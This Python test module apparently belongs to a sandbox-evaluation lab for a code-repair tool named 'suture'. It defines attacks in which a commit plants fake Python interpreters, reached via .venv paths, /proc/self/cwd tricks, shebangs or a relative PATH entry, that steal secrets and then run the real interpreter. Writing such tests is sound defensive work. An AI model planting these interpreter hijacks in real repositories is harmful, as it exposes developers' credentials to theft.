"""Class 1: repository files executed outside the sandbox.

Every payload here is a file a commit can add that poses as an interpreter; when it runs it
gathers every secret it can reach and sends it to the lab's listeners and loot directory.
Inside bubblewrap it finds nothing and reaches nothing; on the host it finds everything.
The control runs the same repository with --sandbox none, where the check itself runs it.
"""

from __future__ import annotations

import sys

from attack import Attacks, broken, diagnose, heal
from lab import Evidence, Lab

ATTACKS = Attacks(cls=1)
LISTENER = "TCP listener"
test_attack = None  # set at the end, once every attack is registered


def fake_python(lab: Lab, tag: str) -> str:
    """A shell script that steals, then behaves as the real interpreter (so every probe is satisfied)."""
    return f'#!/bin/sh\n{lab.steal_sh(tag)}exec {sys.executable} "$@"\n'


HOST = "it runs on the host, every secret and the network in reach"


@ATTACKS.add("venv-python-heal", expect=LISTENER)
def venv_python_heal(lab: Lab, held: bool) -> Evidence:
    """A committed .venv/bin/python (a shell script) in the repository suture heals."""
    lab.repo(broken({".venv/bin/python": fake_python(lab, "venv-heal")}), executable=[".venv/bin/python"])
    return heal(lab, held)


@ATTACKS.add("venv-python-diagnose", expect=LISTENER)
def venv_python_diagnose(lab: Lab, held: bool) -> Evidence:
    """The same .venv/bin/python, reached by `suture diagnose`."""
    lab.repo(broken({".venv/bin/python": fake_python(lab, "venv-diagnose")}), executable=[".venv/bin/python"])
    return diagnose(lab, held)


@ATTACKS.add("venv-python-doctor", expect=LISTENER)
def venv_python_doctor(lab: Lab, held: bool) -> Evidence:
    """The same .venv/bin/python, reached by `suture doctor` (which runs no check at all)."""
    lab.repo(broken({".venv/bin/python": fake_python(lab, "venv-doctor")}), executable=[".venv/bin/python"])
    return lab.suture("doctor", *(() if held else ("--sandbox", "none")))


@ATTACKS.add("plain-venv-python", expect=LISTENER)
def plain_venv_python(lab: Lab, held: bool) -> Evidence:
    """A committed venv/bin/python, the other name suture looks for."""
    lab.repo(broken({"venv/bin/python": fake_python(lab, "plain-venv")}), executable=["venv/bin/python"])
    return heal(lab, held)


@ATTACKS.add("venv-python-from-log", expect=LISTENER)
def venv_python_from_log(lab: Lab, held: bool) -> Evidence:
    """The .venv/bin/python again, with the run started from a CI log (`heal --log`)."""
    lab.repo(broken({".venv/bin/python": fake_python(lab, "venv-log")}), executable=[".venv/bin/python"])
    log = lab.root / "ci.log"
    log.write_text(
        "FAILED tests/test_shapes.py::test_area - NameError: name 'reslt' is not defined\n"
        "shapes.py:3: NameError\n=========== 1 failed in 0.01s ===========\n",
        encoding="utf-8",
    )
    return heal(lab, held, "--log", str(log))


@ATTACKS.add("proc-self-cwd-python", expect=LISTENER)
def proc_self_cwd_python(lab: Lab, held: bool) -> Evidence:
    """`test-cmd = "/proc/self/cwd/python -m pytest"`: the name looks like an interpreter outside the tree."""
    config = '[tool.suture]\ntest-cmd = ["/proc/self/cwd/python -m pytest -q"]\n'
    lab.repo(broken({"pyproject.toml": config, "python": fake_python(lab, "proc-cwd")}), executable=["python"])
    return heal(lab, held)


@ATTACKS.add("shebang-proc-self-cwd", expect=LISTENER)
def shebang_proc_self_cwd(lab: Lab, held: bool) -> Evidence:
    """`test-cmd = "./run-tests"` whose #! names /proc/self/cwd/.tools/python3, a file of the commit."""
    files = {
        "pyproject.toml": '[tool.suture]\ntest-cmd = ["./run-tests"]\n',
        "run-tests": "#!/proc/self/cwd/.tools/python3\nimport pytest, sys\nsys.exit(pytest.main(['-q']))\n",
        ".tools/python3": fake_python(lab, "shebang"),
    }
    lab.repo(broken(files), executable=["run-tests", ".tools/python3"])
    return heal(lab, held)


@ATTACKS.add("relative-path-entry", expect=LISTENER)
def relative_path_entry(lab: Lab, held: bool) -> Evidence:
    """The user's PATH starts with node_modules/.bin (a common shell setup); the commit adds a python there."""
    lab.repo(broken({"node_modules/.bin/python": fake_python(lab, "relpath")}), executable=["node_modules/.bin/python"])
    lab.env["PATH"] = "node_modules/.bin:" + lab.env["PATH"]
    return heal(lab, held)


test_attack = ATTACKS.test()
